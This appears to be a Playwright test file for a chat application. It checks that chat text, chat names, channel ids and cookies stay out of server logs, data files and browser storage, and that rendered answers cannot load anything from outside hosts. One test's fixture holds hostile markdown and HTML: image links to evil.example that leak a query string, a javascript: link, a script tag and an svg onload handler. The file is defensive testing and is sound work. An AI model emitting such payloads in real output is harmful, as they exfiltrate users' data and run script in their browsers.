import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { answers, ask, composer, expect, test, untilAnswered, untilDraftIsKept } from './journey'

const filesOf = (dir: string): string[] =>
  readdirSync(dir, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))

test.describe('somebody signed in', () => {
  test.use({ signedIn: true, storage: 'embedded', ownServer: true })

  test('nothing of a local chat is in the data folder or the logs: not its text, not its name, not its address', async ({
    page,
    gateway,
    server,
  }) => {
    const [question, answer, name] = ['MARKER-QUESTION-7f3a', 'MARKER-ANSWER-91cc', 'MARKER-NAME-e0b2']
    gateway.next({ text: `${answer} is the answer` })
    await ask(page, question)
    await expect(answers(page).first()).toContainText(answer)
    await page.getByRole('button', { name: 'Chat tools' }).click()
    await page.getByRole('menuitem', { name: 'Rename' }).click()
    await page.getByRole('dialog').getByRole('textbox').fill(name)
    await page.getByRole('dialog').getByRole('button', { name: 'Rename' }).click()
    await expect(page.getByRole('navigation').getByText(name)).toBeVisible()
    gateway.next({ text: 'Another one.' })
    await ask(page, 'Go on')
    await expect(answers(page).nth(1)).toContainText('Another one.')
    const channelId = new URL(page.url()).hash.slice(1)
    // Those that the page cannot read: another one says no more than that the browser has been here.
    const cookies = (await page.context().cookies()).filter(({ httpOnly }) => httpOnly)
    expect(cookies.length).toBeGreaterThan(0)
    await page.goto('about:blank')
    await server.stop()

    const secrets = [question, answer, name, channelId, ...cookies.map(({ value }) => value)]
    for (const secret of secrets) expect(server.output.includes(secret), `the logs hold ${secret}`).toBe(false)
    const files = filesOf(server.dataDir)
    expect(files.length).toBeGreaterThan(10)
    const finds = files.flatMap((file) => {
      const bytes = readFileSync(file)
      return secrets.filter((secret) => bytes.includes(secret)).map((secret) => `${file} holds ${secret}`)
    })
    expect(finds).toEqual([])
    expect(server.output.length).toBeGreaterThan(200)
  })
})

test('IndexedDB holds no plain text of a chat, its name or a draft [CH-174, CH-175]', async ({ page, gateway }) => {
  gateway.next({ text: 'PLAIN-ANSWER here' })
  await ask(page, 'PLAIN-QUESTION here')
  await expect(answers(page).first()).toContainText('PLAIN-ANSWER')
  await untilAnswered(page)
  await composer(page).fill('PLAIN-DRAFT here')
  await untilDraftIsKept(page, new URL(page.url()).hash.slice(1), 'PLAIN-DRAFT here')

  const dump = await page.evaluate(async () => {
    const seen: string[] = []
    const bytes = (value: unknown): string =>
      value instanceof ArrayBuffer || ArrayBuffer.isView(value)
        ? new TextDecoder('latin1').decode(value instanceof ArrayBuffer ? value : value.buffer)
        : JSON.stringify(value, (_key, inner) =>
            inner instanceof ArrayBuffer || ArrayBuffer.isView(inner) ? bytes(inner) : inner,
          )
    for (const { name } of await indexedDB.databases()) {
      if (!name) continue
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const request = indexedDB.open(name)
        request.onsuccess = () => resolve(request.result)
        request.onerror = () => reject(request.error)
      })
      for (const store of db.objectStoreNames) {
        const all = await new Promise<unknown[]>((resolve, reject) => {
          const request = db.transaction(store).objectStore(store).getAll()
          request.onsuccess = () => resolve(request.result)
          request.onerror = () => reject(request.error)
        })
        seen.push(`${name}/${store}: ${all.length}`, ...all.map(bytes))
      }
      db.close()
    }
    return {
      text: seen.join('\n'),
      storage: JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }),
    }
  })
  expect(dump.text).toMatch(/parley\/exchanges: 1/)
  for (const plain of ['PLAIN-ANSWER', 'PLAIN-QUESTION', 'PLAIN-DRAFT', 'Chat 2']) {
    expect(dump.text).not.toContain(plain)
    expect(dump.storage).not.toContain(plain)
  }
})

test('an answer cannot call out: pictures, styles and links load nothing by themselves', async ({
  page,
  gateway,
  context,
}) => {
  const outside: string[] = []
  context.on('request', (request) => {
    if (!request.url().startsWith('http://localhost') && !/^(blob|data):/.test(request.url()))
      outside.push(request.url())
  })
  gateway.next({
    text: '![secret](https://evil.example/leak.png?q=chat) <img src="https://evil.example/raw.png"> [link](javascript:alert(1)) <script>window.hacked = 1</script>\n\n[ref]: https://evil.example/x "t"\n\n![r][ref]\n\n<svg onload="window.hacked=2"></svg>\n\nend of answer',
  })
  await ask(page, 'Be evil')
  await expect(answers(page).first()).toContainText('end of answer')
  await expect(page.getByRole('button', { name: 'Stop' })).toBeHidden()
  // Until the renderer is there the answer is plain text.
  await expect(answers(page).first().getByRole('link', { name: 'Load picture' }).first()).toBeVisible()
  await page.waitForLoadState('networkidle')
  expect(outside).toEqual([])
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
  expect(
    await page
      .locator('[data-answer] a[href^="javascript"], [data-answer] script, [data-answer] img[src^="http"]')
      .count(),
  ).toBe(0)
})
